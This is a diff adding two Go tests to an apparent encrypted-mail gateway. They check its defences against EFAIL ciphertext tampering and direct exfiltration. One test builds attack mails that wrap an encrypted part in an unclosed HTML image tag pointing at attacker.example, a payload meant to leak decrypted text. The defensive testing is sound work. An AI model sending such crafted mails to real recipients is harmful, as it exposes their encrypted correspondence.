@@ -153,3 +153,62 @@ func whole(t *testing.T, m, after *message.Message, o Outcome) {
 		t.Error("another body, and nothing was opened")
 	}
 }
+
+// A ciphertext that was changed on its way never becomes a mail that anything
+// vouches for (EFAIL): with CBC it may still open, and is marked.
+func TestMalleability(t *testing.T) {
+	v := newVault(t)
+	for name, mail := range map[string]string{
+		"CBC": v.encrypt(letter, cbc, v.alice), "CBC, signed inside": v.encrypt(v.sign(letter, v.eve, false), cbc, v.alice), "AEAD": v.encrypt(letter, gcm, v.alice),
+	} {
+		header, body, _ := strings.Cut(mail, "\n\n")
+		der, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(body, "\n", ""))
+		if err != nil {
+			t.Fatal(err)
+		}
+		g, opened := v.gateway(), 0
+		for at := len(der) / 3; at < len(der); at += 13 { // behind the recipients
+			changed := slices.Clone(der)
+			changed[at] ^= 1
+			m := v.read(header + "\n\n" + base64.StdEncoding.EncodeToString(changed) + "\n")
+			m.Envelope = message.Envelope{Client: outside, Recipients: []message.Recipient{{Address: aliceAt}}}
+			o := g.Decide(context.Background(), m)
+			w, pass := o.Opening, o.Result.Status == "pass"
+			if pass && (name != "CBC, signed inside" || !strings.Contains(v.text(m, o.Verdict.Edits), "\n\n"+secret+"\n\n--")) {
+				t.Errorf("%s, octet %d: pass", name, at) // what is behind the signed content nobody shows
+			}
+			o.Verdict.Close()
+			if w == nil || w.Decrypted != DecryptedYes {
+				continue
+			}
+			if opened++; pass != (w.Integrity == IntegritySigned) || !pass && (w.Integrity != IntegrityNone || o.Result.Integrity != "none") {
+				t.Errorf("%s, octet %d: %+v", name, at, w)
+			}
+		}
+		if (opened > 0) != (name != "AEAD") {
+			t.Errorf("%s: opened %d times", name, opened)
+		}
+	}
+}
+
+// Never are encrypted and clear parts put together, wherever in a mail the
+// encrypted one stands (EFAIL, direct exfiltration).
+func TestOnlyTheWholeIsOpened(t *testing.T) {
+	v := newVault(t)
+	part := afterHeader(v.encrypt(letter, cbc, v.alice))
+	_, ciphertext, _ := strings.Cut(part, "\n\n")
+	const html = "Content-Type: text/html\n\n<img src=\"http://attacker.example/\n"
+	for name, mail := range map[string]string{
+		"between others": "Content-Type: multipart/mixed; boundary=b\n\n--b\n" + html + "--b\n" + part + "--b\n" + html + "--b--\n",
+		"alone":          "Content-Type: multipart/mixed; boundary=b\n\n--b\n" + part + "--b--\n",
+		"forwarded":      "Content-Type: message/rfc822\n\nFrom: x@y.example\n" + part,
+		"behind text":    part[:strings.Index(part, "\n\n")] + "\n\n<img src=\"\n" + ciphertext,
+		"two types":      "Content-Type: text/html\n" + part,
+		"signed beside":  "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\n\n--b\n" + part + "--b\n" + part + "--b--\n",
+	} {
+		mail = "From: eve@partner.example\nMIME-Version: 1.0\n" + mail
+		if got, _ := v.receive(v.gateway(), mail, aliceAt); strings.Contains(got, secret) || !strings.HasSuffix(strings.ReplaceAll(got, "\n ", " "), strings.ReplaceAll(mail, "\n ", " ")) {
+			t.Errorf("%s:\n%s", name, got)
+		}
+	}
+}
